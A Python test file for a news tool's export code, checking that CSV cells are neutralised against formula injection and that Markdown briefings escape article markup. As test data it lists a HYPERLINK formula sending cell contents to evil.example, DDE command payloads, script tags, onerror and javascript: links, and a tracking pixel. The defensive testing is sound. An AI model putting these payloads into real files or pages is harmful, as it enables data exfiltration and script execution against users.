"""Output injection (issue #15): what articles say never runs in the program that opens an
export. CSV cells that a spreadsheet would run as formulas are neutralised (OWASP); the
Markdown briefing shows markup from articles as text in a CommonMark viewer."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt

from newsweave.api import Newsweave
from newsweave.cli import cli
from newsweave.formats import markdown
from newsweave.records import Article, CitedSentence, Event, Story, StoryBrief, TimelineEntry
from newsweave.web import create_app

# OWASP CSV injection: a cell must not start with these (ASVS 1.2.10 adds NUL)
FORMULA_START = frozenset("=+-@\t\r\n\0")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("csv")
    lines = [
        {
            "title": payload,
            "outlet": payload,
            "text": f"{payload} Officials said on Thursday that the talks in Moscow would go on.",
            "published": "2020-09-0" + str(i + 1),
        }
        for i, payload in enumerate(FORMULAS)
    ]
    (folder / "hostile.jsonl").write_text("\n".join(json.dumps(x) for x in lines) + "\n")
    db = folder / "hostile.db"
    with Newsweave(db) as nw:
        nw.ingest([folder / "hostile.jsonl"], analyze=False)
        assert nw.count() == len(FORMULAS)
    return db


def _check_cells(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS)
    for row in body:
        for value in row:
            assert value[:1] not in FORMULA_START, value
    # the value itself is kept, behind the apostrophe a spreadsheet reads as "text"
    titles = {row[header.index("title")] for row in body}
    assert all(t.startswith("'") for t in titles), titles
    assert {t[1:].strip() for t in titles} == {p.strip() for p in FORMULAS}


def test_cli_csv_export_neutralises_formulas(formula_db: Path) -> None:
    result = CliRunner().invoke(cli, ["--db", str(formula_db), "export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    _check_cells(result.output)
    assert "'=HYPERLINK(" in result.output and "'+cmd|" in result.output
    assert "'@SUM(" in result.output


def test_http_csv_export_neutralises_formulas(formula_db: Path) -> None:
    with TestClient(create_app(formula_db)) as client:
        response = client.get("/api/export", params={"format": "csv"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    _check_cells(response.text)


def test_plain_cells_are_unchanged() -> None:
    from newsweave.formats.csv import cell

    assert cell("Moscow talks") == "Moscow talks"
    assert cell("2020-09-03") == "2020-09-03"
    assert cell(None) is None
    assert cell(["-a"]) == '["-a"]'  # JSON text starts with [ : not a formula
    assert cell("-5 degrees") == "'-5 degrees"


# --------------------------------------------------------------------------- markdown

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
LINK = "[click](javascript:alert(3))"
PICTURE = "![pixel](http://tracker.example/p.gif)"
AUTOLINK = "<javascript:alert(4)>"
UNDO = "\\<script>alert(5)</script> \\[x](javascript:alert(6))"
PAYLOADS = (SCRIPT, IMG, LINK, PICTURE, AUTOLINK, UNDO)


def _hostile_briefing() -> str:
    text = " ".join(PAYLOADS)
    art = Article(
        id="a" * 16,
        source_path=f"{SCRIPT}.txt",
        title=f"{SCRIPT} {LINK}",
        outlet=IMG,
        agency=None,
        dateline=None,
        published="2020-09-03",
        text=text,
    )
    cite = CitedSentence(text, (art.id,))
    story = Story("s" * 16, f"{SCRIPT} story", ("e" * 16,), (art.id,))
    event = Event("e" * 16, f"{IMG} event", "2020-09-03", (art.id,), story.id)
    entry = TimelineEntry("2020-09-03", "day", "reported", text, story.id, (art.id,))
    brief = StoryBrief(
        story=story,
        events=(event,),
        summary=(cite,),
        event_summaries={event.id: (cite,)},
        timeline=(entry,),
        disagreements=(CitedSentence(f"**Where** — *{IMG}*: “{SCRIPT}”", (art.id,)),),
    )
    return markdown.render([brief], {art.id: art})


def _rendered(md: str) -> str:
    return MarkdownIt("commonmark").render(md)


def test_markdown_briefing_renders_article_markup_as_text() -> None:
    md = _hostile_briefing()
    page = _rendered(md)
    assert not re.search(r"<(script|img|iframe|svg)", page, re.I), page
    assert "<a " not in page and "javascript:" not in re.findall(r'href="([^"]*)"', page)
    # shown as text: the words are all there
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 5
    assert "[click](javascript:alert(3))" in page
    # our own structure survives: headings, emphasis of the disagreement lines, citations
    assert "<h2>" in page and "<strong>Where</strong>" in page and "[1]" in page


def test_markdown_escape_rule() -> None:
    assert markdown.escape("Talks in Moscow") == "Talks in Moscow"
    assert markdown.escape("AT&T said *so*") == "AT&T said *so*"
    assert markdown.escape("a &lt; b") == "a &amp;lt; b"
    assert markdown.escape("line\nbreak") == "line break"
    assert markdown.escape(SCRIPT) == "&lt;script>alert(1)&lt;/script>"
    assert markdown.escape("\\[x]") == "\\\\\\[x\\]"


def test_brief_of_a_store_escapes_a_hostile_title(tmp_path: Path) -> None:
    """End to end: `newsweave brief` and `export --format markdown` of a real analysed
    store holding an article titled with a script."""
    record = {
        "title": SCRIPT,
        "text": (
            f"{IMG} Officials in Moscow said on Thursday that the defence talks would "
            f"continue next week. {LINK} The ministry confirmed the schedule and said a "
            "statement would follow later in the week, after the meeting of ministers."
        ),
        "published": "2020-09-05",
        "outlet": IMG,
    }
    path = tmp_path / "payload.jsonl"
    path.write_text(json.dumps(record) + "\n")
    db = tmp_path / "one.db"
    with Newsweave(db) as nw:
        nw.ingest([path])
        brief = nw.brief()
        exported = nw.export_text("markdown")
    assert exported == brief
    assert "alert(1)" in brief  # the article is in the briefing
    page = _rendered(brief)
    assert not re.search(r"<(script|img)", page, re.I), page
    result = CliRunner().invoke(cli, ["--db", str(db), "brief"])
    assert result.exit_code == 0 and "<script" not in result.output
